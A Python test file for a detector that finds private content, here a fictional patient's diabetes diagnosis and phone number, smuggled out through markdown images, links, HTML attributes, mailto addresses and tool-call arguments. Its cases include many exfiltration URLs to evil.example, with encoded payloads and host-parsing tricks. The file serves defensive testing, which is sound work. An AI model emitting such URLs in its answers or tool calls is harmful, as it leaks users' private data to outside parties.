"""What carries private content away, and what is an ordinary address."""

from __future__ import annotations

import base64
import codecs

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adhere.detect import Exfiltration, Finding, PrivateContent, View
from adhere.detect.urls import LONGEST, host_of, urls

RECORD = (
    "The patient Maria Holm has diabetes. Call 202-555-0123 or write to maria.holm@clinic.example."
)
PAGE = "See https://news.example/2024/maria-holm-has-diabetes-they-say-so-now for more."
CONTENT = PrivateContent([RECORD, PAGE], seen=[PAGE])
GUARD = Exfiltration(
    CONTENT,
    allowed=["ok.example", "*.works.example"],
    principals=["Have a look at https://named.example/start and write to joe@friends.example"],
)
SAID = "maria holm has diabetes"
B64 = base64.b64encode(SAID.encode()).decode()


def kinds(text: str) -> list[str]:
    return [one.kind for one in GUARD.find(View(text))]


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("![x](https://evil.example/p.png?q=maria%20holm%20has%20diabetes)", "image"),
        ("![x](<https://evil.example/p.png?q=maria+holm+has+diabetes>)", "image"),
        ("[x](https://evil.example/?q=maria+holm+has+diabetes)", "link"),
        ("[a][b]\n\n[b]: https://evil.example/#maria-holm-has-diabetes", "link"),
        ("<https://evil.example/?maria_holm_has_diabetes>", "link"),
        ("<img alt=a src='//evil.example/a?p=maria.holm.has.diabetes'>", "image"),
        ('<a href="https://evil.example/?q=MARIA+HOLM+HAS+DIABETES">x</a>', "link"),
        ('<div style="background: url(https://evil.example/?mariaholmhasdiabetes)">', "image"),
        ('<img src="https&#58;//evil.example/?q=maria+holm+has+diabetes">', "image"),
        ("https://maria-holm-has-diabetes.evil.example/", "link"),
        ("https://maria-holm-has-diabetes@evil.example/", "link"),
        ("https://ok.example@evil.example/?q=maria+holm+has+diabetes", "link"),
        ("https://ok.example.evil.example/?q=maria+holm+has+diabetes", "link"),
        ("https://evil.example\\@ok.example/?q=maria+holm+has+diabetes", "link"),
        ("https:/\\evil.example/?q=maria+holm+has+diabetes", "link"),
        ("evil.example/?q=maria+holm+has+diabetes", "link"),
        ("www.evil.example/?q=maria+holm+has+diabetes", "link"),
        ("mailto:x@evil.example?body=maria%20holm%20has%20diabetes", "link"),
        ("https://evil.example/?p=2025550123", "link"),
        ("https://evil.example/202-555-0123.png", "link"),
        ("https://evil.example/?m=maria.holm%40clinic.example", "link"),
        (f"https://evil.example/?d={B64}", "link"),
        (f"https://evil.example/{B64}", "link"),
        (f"https://evil.example/?d={SAID.encode().hex()}", "link"),
        (f"https://evil.example/?d={codecs.encode(SAID, 'rot13').replace(' ', '+')}", "link"),
        (f"https://evil.example/?d={SAID[::-1].replace(' ', '.')}", "link"),
        ("https://evil.example/the-patient-maria-holm-has-diabetes-call", "link"),
        ("(https://ok.example/a)[b](https://evil.example/?q=maria+holm+has+diabetes)", "link"),
        (PAGE.split()[1] + "?and=maria+holm+has+diabetes", "link"),
    ],
)
def test_private_content_is_found_in_every_syntax(text: str, kind: str) -> None:
    assert kind in kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        "https://ok.example/?q=maria+holm+has+diabetes",
        "https://deep.works.example/?q=maria+holm+has+diabetes",
        "https://named.example/?q=maria+holm+has+diabetes",
        PAGE,
        "https://en.encyclopedia.example/wiki/Maria_Holm",
        "https://en.encyclopedia.example/wiki/Diabetes?action=edit",
        "The file is in src/detect/urls.py, see https://evil.example/",
        "maria holm has diabetes, https://evil.example/about",
        "",
    ],
)
def test_ordinary_addresses_are_left_alone(text: str) -> None:
    assert kinds(text) == []


def test_fewer_letters_than_are_needed_are_no_run() -> None:
    content = PrivateContent(["the linear algebra operation of maria holm, and then some more"])
    for size in range(8, 60):
        said = b"thelinearalgebraoperationofmariaholmandthensome"[:size]
        assert bool(content.run(said, 40)) == (len(said) >= 40)


def test_the_owner_is_told_without_what_the_labels_say() -> None:
    [one] = GUARD.find(View("https://maria-holm-has-diabetes.evil.example/"))
    assert one.rule == "evil.example"
    assert "maria" not in repr(one)


def arguments(**given: object) -> list[tuple[str, Finding]]:
    return list(GUARD.in_arguments(given))


def test_a_call_that_names_a_stranger_carries_nothing_private() -> None:
    [(place, one)] = arguments(to=["eve@evil.example"], body="Her number is 202-555-0123.")
    assert (place, one.kind, one.rule) == ("body", "argument", "evil.example")
    assert arguments(to=["eve@evil.example"], body="Shall we meet on Monday?") == []
    assert arguments(to=["joe@friends.example"], body="Her number is 202-555-0123.") == []
    assert arguments(url="https://evil.example/", form={"x": {"y": ["maria.holm@clinic.example"]}})


def test_another_address_at_a_named_host_is_a_stranger() -> None:
    assert arguments(to="eve@friends.example", body="Her number is 202-555-0123.")


def test_an_address_in_an_argument_is_looked_at_as_in_an_answer() -> None:
    [(place, one)] = arguments(url="https://evil.example/?q=maria+holm+has+diabetes")
    assert (place, one.kind) == ("url", "link")


@pytest.mark.parametrize(
    ("written", "host"),
    [("a.example", "a.example"), ("u:p@A.Example.:443", "a.example"), ("a%2eexample", "a.example"),
     ("ａ.example", "a.example"), ("a。example", "a.example"), ("[::1]", "[::1]")],
)  # fmt: skip
def test_a_host_is_read_as_a_browser_reads_it(written: str, host: str) -> None:
    assert host_of(written) == host


@given(
    st.lists(
        st.sampled_from(
            [
                "https://",
                "a.example",
                "/",
                "?",
                "(",
                ")",
                "[",
                "]",
                "![x](",
                " ",
                "'",
                "\\",
                "www.",
                "mailto:",
                "@",
                "x",
                "\n",
                "<",
                "é",
            ]
        ),
        max_size=20,
    )
)
def test_every_address_lies_in_the_text(pieces: list[str]) -> None:
    text = "".join(pieces)
    for url in urls(text):
        assert 0 <= url.start <= url.authority <= url.end <= len(text)
        assert url.end - url.authority <= LONGEST
        assert url.complete
